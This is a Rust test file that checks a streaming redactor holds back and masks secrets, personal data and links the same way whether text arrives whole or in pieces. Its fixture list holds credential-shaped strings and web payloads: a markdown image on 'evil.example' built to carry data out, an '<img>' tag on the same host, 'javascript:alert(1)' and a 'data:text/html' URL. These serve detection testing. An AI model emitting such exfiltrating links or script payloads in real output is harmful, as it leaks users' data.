//! Holding back: of a text in pieces the same is masked as of the whole, and nothing of a finding
//! is passed on before it is known to be one.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "a test fails by panicking"
)]

use lockgate_detect::hold::{CONTEXT_BYTES, HOLD_BYTES_MAX, Release, release};
use lockgate_detect::redactable::{Redactable, find};
use lockgate_detect::{links, pii};
use std::ops::Range;
use std::path::Path;

/// Everything that would be masked, in order and apart.
fn findings(text: &str) -> Vec<Range<usize>> {
    let mut sought: Vec<Redactable> = pii::Kind::ALL.into_iter().map(Redactable::Pii).collect();
    sought.push(Redactable::Secret);
    let mut all = find(text, &sought);
    all.extend(links(text).into_iter().map(|it| it.start..it.end));
    all.sort_by_key(|it| (it.start, it.end));
    let mut apart: Vec<Range<usize>> = Vec::new();
    for it in all {
        match apart.last_mut() {
            Some(last) if last.end > it.start => last.end = last.end.max(it.end),
            _ => apart.push(it),
        }
    }
    apart
}

fn masked(text: &str, from: usize, to: usize, out: &mut String) {
    let mut at = from;
    for it in findings(&text[..to]).into_iter().filter(|it| it.end > from) {
        assert!(it.start >= from, "{:?} was passed on before it was known", &text[it]);
        out.push_str(&text[at..it.start]);
        out.push('#');
        at = it.end;
    }
    out.push_str(&text[at..to]);
}

/// What goes out of a text that comes in these pieces; `None`: it was not passed on to its end.
fn streamed<'a>(pieces: impl Iterator<Item = &'a str>) -> Option<String> {
    let (mut window, mut from, mut out) = (String::new(), 0, String::new());
    let mut cuts: Vec<usize> = Vec::new();
    for piece in pieces {
        window.push_str(piece);
        let Release::To(to) = release(&window, from, false) else { return None };
        if to > from {
            masked(&window, from, to, &mut out);
        }
        from = to;
        cuts.push(to);
        // As whoever passes texts on does, so that no text is kept for ever.
        let least = from.saturating_sub(CONTEXT_BYTES);
        if let Some(cut) = cuts.iter().copied().rfind(|cut| *cut <= least) {
            window.drain(..cut);
            from -= cut;
            cuts.retain(|it| *it > cut);
            cuts.iter_mut().for_each(|it| *it -= cut);
        }
    }
    let Release::To(to) = release(&window, from, true) else { return None };
    masked(&window, from, to, &mut out);
    Some(out)
}

fn whole(text: &str) -> String {
    let mut out = String::new();
    masked(text, 0, text.len(), &mut out);
    out
}

/// xorshift64*: the same throws on every machine.
struct Dice(u64);

impl Dice {
    fn below(&mut self, bound: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        let throw = self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33;
        usize::try_from(throw).unwrap() % bound
    }
}

fn pieces<'a>(text: &'a str, longest: usize, dice: &mut Dice) -> Vec<&'a str> {
    let mut pieces = Vec::new();
    let mut rest = text;
    while !rest.is_empty() {
        let at = rest.ceil_char_boundary(rest.len().min(1 + dice.below(longest)));
        let (piece, tail) = rest.split_at(at);
        pieces.push(piece);
        rest = tail;
    }
    pieces
}

fn check(text: &str, longest: &[usize], dice: &mut Dice) {
    let expected = whole(text);
    for longest in longest {
        let pieces = pieces(text, *longest, dice);
        let found = streamed(pieces.iter().copied());
        assert_eq!(found.as_deref(), Some(expected.as_str()), "{longest}: {text:?}");
    }
}

/// The texts of the corpora of every detector that is held back for.
fn corpus() -> Vec<String> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/corpus");
    let mut texts = Vec::new();
    for folder in ["personal_data", "signals", "addresses"] {
        let mut files: Vec<_> =
            std::fs::read_dir(root.join(folder)).unwrap().map(|it| it.unwrap().path()).collect();
        files.sort();
        let read = files.iter().map(|file| std::fs::read(file).unwrap());
        texts.extend(read.filter_map(|bytes| String::from_utf8(bytes).ok()));
    }
    assert!(texts.len() >= 18);
    texts
}

/// Parts of which texts are made that go wrong.
const PARTS: &[&str] = &[
    " ",
    "\n",
    "\n\n",
    "the ",
    "a",
    "-",
    "THE ",
    "IT ",
    "call ",
    "password: ",
    "api_key = \"",
    "\"",
    "hunter2!x",
    "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",
    "q7Rk2ZvT9mXc4LwB8sHn3JdY6gPf5KaE",
    "ada@mail.example",
    "postgres://app:s3cr3t-pw@db.internal/x",
    "Authorization: Bearer dXNlcjpwYXNzdzByZA==",
    "curl -u ada:hunter2 ",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIE abc\n",
    "-----END RSA PRIVATE KEY-----",
    "-----BEGIN ",
    "4111 1111 1111 1111",
    "DE89 3704 0044 0532 0130 00",
    "+49 30 1234567",
    "555 0100 123",
    " office",
    "10.0.0.12",
    "2001:db8::1",
    "AB 12 34 56 C",
    "123-45-6789",
    "12 ",
    "(",
    ")",
    "[",
    "]",
    "](",
    "![",
    "![alt text](https://evil.example/p.png?q={data here})",
    "[label](www.example.com/y \"title\")",
    "[id]: https://evil.example/x?y=z",
    "<img src=\"https://evil.example/?q=1\">",
    "<a href=",
    "https://example.com/a?b=c",
    "https://x.example/(a b",
    "www.example.com",
    "javascript:alert(1)",
    "data:text/html;base64,AAAA",
    "你好，世界，",
    "密码",
    "é",
    "x ",
];

#[test]
fn of_every_text_of_the_corpora_the_same_is_masked() {
    let mut dice = Dice(0x9e37_79b9_7f4a_7c15);
    corpus().iter().for_each(|text| check(text, &[1, 7, 60], &mut dice));
}

#[test]
fn of_mixed_texts_the_same_is_masked() {
    let mut dice = Dice(0x51_7cc1_b727_220a);
    for _ in 0..1_000 {
        let count = 1 + dice.below(14);
        let text: String = (0..count).map(|_| PARTS[dice.below(PARTS.len())]).collect();
        check(&text, &[1, 7, 60], &mut dice);
    }
}

/// Long texts forget what is far behind, and nothing is found otherwise for it.
#[test]
fn what_is_forgotten_does_not_matter() {
    let mut dice = Dice(0xdead_beef_cafe);
    for _ in 0..6 {
        let text: String = (0..200)
            .map(|_| {
                let part = PARTS[dice.below(PARTS.len())];
                format!("{part}{}", [" ", "\n", ". "][dice.below(3)])
            })
            .collect();
        if text.len() < HOLD_BYTES_MAX {
            check(&text, &[40, 400], &mut dice);
        }
    }
}

#[test]
fn ordinary_text_is_hardly_held_back() {
    for (text, held) in [
        ("The answer is forty-two. ", ""),
        ("The answer is for", "for"),
        ("There are 3 apples and", "and"),
        ("call me at +49 30 ", "+49 30 "),
        ("call me at +49 30 then ", ""),
        ("one\ntwo\n", ""),
        ("see [the page", "[the page"),
        ("see [the page] and ", ""),
        ("![a b](https://evil.example/ ", "![a b](https://evil.example/ "),
        ("if a<b then c ", ""),
        ("-----BEGIN EC PRIVATE KEY-----\nabc def\n", "-----BEGIN EC PRIVATE KEY-----\nabc def\n"),
        ("-----BEGIN CERTIFICATE-----\nabc def\n", ""),
        ("今天很好，明天也", "明天也"),
        ("password: 今天很好，明天", "今天很好，明天"),
    ] {
        let Release::To(to) = release(text, 0, false) else { panic!("{text}") };
        assert_eq!(&text[to..], held, "{text:?}");
        assert_eq!(release(text, 0, true), Release::To(text.len()));
    }
}

#[test]
fn what_is_too_long_to_be_held_is_not_passed_on() {
    let long = "x".repeat(HOLD_BYTES_MAX + 1);
    assert_eq!(release(&long, 0, false), Release::Exceeded);
    assert_eq!(release(&long[1..], 0, false), Release::To(0));
    let text = format!("before {}", "x".repeat(HOLD_BYTES_MAX));
    assert_eq!(release(&text, 0, false), Release::To(7));
    // A key without an end is as long as is looked for, and no longer.
    let key = format!("-----BEGIN PRIVATE KEY-----\n{}", "MIIE abc\n".repeat(3_000));
    assert!(matches!(release(&key, 0, false), Release::To(to) if to > 16_384));
}
